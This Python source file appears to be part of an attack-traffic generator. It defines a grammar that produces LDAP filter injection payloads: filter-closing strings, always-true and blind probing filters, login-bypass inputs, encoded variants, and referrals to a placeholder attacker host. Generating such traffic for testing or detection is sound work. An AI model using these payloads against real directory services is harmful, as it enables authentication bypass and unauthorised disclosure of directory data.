"""LDAP filter injection (RFC 4515 filters): closing the filter, wildcards, attribute probing."""

from traffic.grammars.attacks.pieces import Grammar, Symbols, after_value

# Tables: as many alternatives to a line as fit.
# fmt: off
_SYMBOLS: Symbols = {
    "a": (
        "uid", "cn", "sn", "mail", "objectClass", "objectclass", "userPassword", "password",
        "givenName", "memberOf", "sAMAccountName", "department", "telephoneNumber", "homeDirectory",
        "description", "uidNumber", "‹id›", "userAccountControl", "admincount",
        "servicePrincipalName", "ou",
    ),
    "v": (
        "*", "*", "‹name›", "‹abc›*", "admin*", "admin", "user", "person", "‹id›", "‹n›", "*‹abc›*",
        "\\2a", "a*", "*)", "‹rnd›", "‹abc›",
    ),
    "op": ("=", "=", "=", ">=", "<=", "~="),
    "e": ("", "", "%00", "\0", ")", "))", "(", "))%00", "*", ")(|", "(&"),
    "t": (
        "(‹a›‹op›‹v›)", "(‹a›=*)", "(!(‹a›=‹v›))", "(|(‹a›=‹v›)(‹a›=*))", "(&(‹a›=‹v›)(‹a›=‹v›))",
        "(‹a›:2.5.13.18:=\\‹hex2›)",
    ),
}
_GRAMMAR = Grammar(_SYMBOLS)
_BEHIND = Grammar(_SYMBOLS, finish=after_value(0.4))

RULES = {
    **_BEHIND.rules(
        close_and_widen=(
            "*)(‹a›=*))(|(‹a›=*", "*)(‹a›‹op›‹v›)‹e›", ")(‹a›=*)‹e›", "*))(|‹t›‹e›", "*)(|‹t›",
            "*)(&‹t›", ")(|‹t›‹t›", "*))%00‹abc?›", "*)‹t›‹t›‹e›", "))(|‹t›", "*|‹t›",
            "*%29%28‹a›%3D*%29%29%00",
        ),
        always_true=(
            "*)(&", "*)(|(&", "*(|(‹a›=*))", "*(|(mail=*))‹e›", "*)(uid=*))(|(uid=*",
            ")(!(&(1=0‹d?›", "*)(‹a›=*", "*()|%26'‹abc?›", "*()|&'‹abc?›", "*))(|(‹a›=‹v›",
            "*)(objectClass=*))(&(objectClass=void", "*)(‹a›>=‹v›)(&(‹a›=*", "*)(|(‹a›=‹v›))‹e›",
        ),
        blind=(
            ")(‹a›=‹abc›*))(&(1=1", "*)(‹a›=‹abc›*", "*)(‹a›=‹abc›*)(‹a›=‹abc›*)‹e›",
            ")(‹a›>=‹abc›)(|(‹a›=*", "*))(&(‹a›=‹abc›*)‹e›", "*)(‹a›:caseExactMatch:=‹name›)",
            ")(‹a›=‹rnd›*)(&(‹a›=*", "*)(‹a›~=‹rnd›))%00",
        ),
        login=(
            "‹name›)(&)", "‹name›)(&))‹e›", "‹name›)(|(password=*))", "admin)(!(&(|",
            "‹name›*)((|‹a›=*)", "‹name›)(‹a›=*))%00", "‹name›)(|(‹a›=*)",
            "*)(‹a›=‹name›))(|(‹a›=‹v›", "‹name›))(|(‹a›=‹v›", "‹name›)(!(‹a›=‹rnd›)",
        ),
        encoded=(
            "\\2a\\29\\28‹a›=\\2a", "*%29%28%7C%28‹a›=%2A%29%29", "%2A%29%28‹a›%3D%2A",
            "\\28\\7c\\28‹a›=\\2a\\29\\29", "‹v›\\29\\28‹a›=‹v›\\00", "%29(|(‹a›=%2a)",
        ),
    ),
    **_GRAMMAR.rules(
        # A whole filter is what directories are asked with: harmless, as long as it is whole.
        broken_filter=(
            "(&(‹a›=‹v›)(|(‹a›=*)(‹a›=*)", "(|(‹a›=*)(‹a›=*)))(|(‹a›=*", "‹t›‹t›)(|‹t›",
            "(&(objectClass=*)(‹a›=‹v›))(‹a›=*)", "(!(‹a›=‹rnd›))(|‹t›", "(&‹t›‹t›))%00",
            "(|‹t›‹t›)%00", "‹t›‹t›)", "(‹a›=*))(|(‹a›=*)",
            "(&(objectCategory=person)(userAccountControl:1.2.840.113556.1.4.803:=‹n›)))(‹a›=*)",
        ),
        referral=(
            "ldap://‹evil›:‹port›/‹a›=‹rnd›,dc=‹id›", "ldap:///dc=‹id›??sub?(‹a›=*))(|(‹a›=*",
            "*)(ref=ldap://‹evil›/‹a›=‹rnd›)", "‹a›=‹v›,dc=‹id›))(|(‹a›=*",
        ),
    ),
}
